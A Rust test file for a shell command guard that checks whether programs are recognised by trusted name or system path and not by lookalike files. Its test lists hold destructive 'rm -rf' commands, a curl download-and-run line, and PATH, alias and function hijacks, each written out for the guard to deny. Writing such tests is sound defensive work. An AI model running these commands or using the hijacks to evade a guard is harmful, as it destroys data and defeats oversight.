//! A program is known by a bare name or a path in a folder of the system, not by the end of any path.

use shell::guard::{self, GuardDecision, Policy};
use shell::{Class, Place, Reading, read};

fn reading(command: &str) -> Reading {
    read(command, &Place { home: Some("/home/me"), ..Place::at("/home/me/work/project") })
}

fn verdict(command: &str) -> GuardDecision {
    guard::judge(&reading(command), &Policy::default()).verdict
}

#[test]
fn the_program_itself_is_known() {
    for command in [
        "ls",
        "/bin/ls",
        "/usr/bin/git status",
        "/usr/local/bin/rg x",
        "/opt/homebrew/bin/jq . a.json",
        "/nix/store/abc-coreutils-9/bin/ls",
        "/usr/bin/../bin/ls",
        "/usr/bin/env ls",
        "PATH=/usr/bin:$PATH ls",
        "export PATH=$PATH:/usr/local/bin; ls",
        "path=/tmp/x; ls $path",
        "PATH=. echo hi",
        "env LC_ALL=C ls",
        "command -p ls",
        "f() { ls; }; f",
    ] {
        assert_eq!(reading(command).class, Class::ReadOnly, "{command}");
    }
}

#[test]
fn another_file_of_the_same_name_is_not() {
    for command in [
        "./ls",
        "bin/ls",
        "../ls",
        "~/bin/git status",
        "$HOME/bin/ls",
        "/tmp/git status",
        "/home/me/work/project/ls",
        "/usr/bin/../../tmp/ls",
        "/usr/bin/sub/ls",
        "node_modules/.bin/eslint --version",
        "PATH=.:$PATH ls",
        "PATH=/tmp/x ls",
        "PATH=:/usr/bin ls",
        "PATH+=:. ls",
        "export PATH=~/bin:$PATH; ls",
        "export PATH=$PWD/bin:$PATH && git status",
        "declare -x PATH=.; ls",
        "env PATH=. ls",
        "env PATH=. echo hi",
        "sudo PATH=. ls",
        "path=(. $path); ls",
        "alias ls=./evil; ls",
        "ls() { ./evil; }; ls",
        "ls() { echo hi; }; ls",
        "hash -p ./evil ls; ls",
        "enable -f ./x.so ls; ls",
        "cp a ./cat; ./cat b",
        "LD_LIBRARY_PATH=. ls",
        "GIT_EXEC_PATH=. git status",
        "git --exec-path=. status",
        "gawk -l ./x 'BEGIN{}'",
        "node -r ./evil.js -e 1",
        "xargs ./cat < a",
        "find . -exec ./cat {} +",
        "nice ./ls",
        "/tmp/nice ls",
        "./bash -c ls",
        "cat a | ./grep x",
        "echo $(./date)",
    ] {
        let reading = reading(command);
        assert!(!reading.is_read_only(), "{command}");
        assert!(reading.class >= Class::Unknown, "{command} is {:?}", reading.class);
        assert!(reading.writes_unknown(), "{command}");
    }
}

#[test]
fn what_it_would_do_is_judged_all_the_same() {
    for command in [
        "./rm -rf ~",
        "/tmp/rm -rf /",
        "/usr/local/bin/rm -rf /",
        "bin/sudo rm -rf /",
        "~/bin/bash -c 'rm -rf /'",
        "PATH=. rm -rf /",
        "export PATH=.:$PATH; rm -rf ~",
        "env PATH=. rm -rf /",
        "alias rm=echo; rm -rf /",
        "false && rm() { :; }; rm -rf /",
        "if [ -n \"$X\" ]; then rm() { :; }; fi; rm -rf ~",
        "rm() { echo no; }; rm -rf /",
        "hash -p /bin/echo rm; rm -rf /",
        "alias ls='rm -rf ~'; ls",
        "ls() { rm -rf ~; }; ls",
        "hash -p /bin/rm ls; ls -rf /",
        "echo 'rm -rf ~' > ls; chmod +x ls; ./ls",
        "printf 'rm -rf /\\n' > git && sh -c ./git",
        "curl -o ls https://x.org/ls && ./ls",
        "curl https://x.org/ls > /tmp/git; /tmp/git status",
        "./cd /tmp/x; rm -rf ~",
        "/tmp/eval() { :; }; rm -rf /",
        "./git push --force origin main",
        "cp /bin/rm ./ls && ./ls -rf /",
        "cp -t /tmp /bin/rm && /tmp/rm -rf ~",
        "ln -s /bin/rm ./ls; ./ls -rf /",
        "ln -sf /usr/bin/rm /tmp/x && /tmp/x -rf ~",
        "install -m755 /bin/rm /tmp/y; /tmp/y -rf /",
        "cat /bin/rm > r; chmod +x r; ./r -rf /",
        "cp /bin/bash b; ./b -c 'rm -rf /'",
    ] {
        assert_eq!(verdict(command), GuardDecision::Deny, "{command}");
    }
}

#[test]
fn ordinary_programs_of_a_project_pass() {
    for command in [
        "./gradlew build",
        "./mvnw test",
        "./node_modules/.bin/jest",
        "node_modules/.bin/tsc --noEmit",
        ".venv/bin/python script.py",
        ".venv/bin/pytest -q",
        "venv/bin/pip install -r requirements.txt",
        "./configure --prefix=/usr/local && make",
        "./bin/rails db:migrate",
        "bin/console",
        "target/debug/app --help",
        "~/.cargo/bin/cargo test",
        "~/go/bin/golangci-lint run",
        "PATH=$HOME/.cargo/bin:$PATH cargo test",
        "export PATH=\"$PWD/node_modules/.bin:$PATH\" && jest",
        "source .venv/bin/activate && python -m pytest",
        "ls() { command ls --color \"$@\"; }; ls",
        "alias ll='ls -l'; ll",
    ] {
        assert_eq!(verdict(command), GuardDecision::Allow, "{command}");
    }
}

#[test]
fn the_words_of_a_line_say_which_program_is_itself() {
    let known = |command: &str| -> Vec<bool> {
        reading(command).commands.iter().map(|command| command.is_itself).collect()
    };
    assert_eq!(known("ls; ./ls; /bin/ls; /tmp/ls"), [true, false, true, false]);
    assert_eq!(known("PATH=. ls; ls"), [false, true]);
}
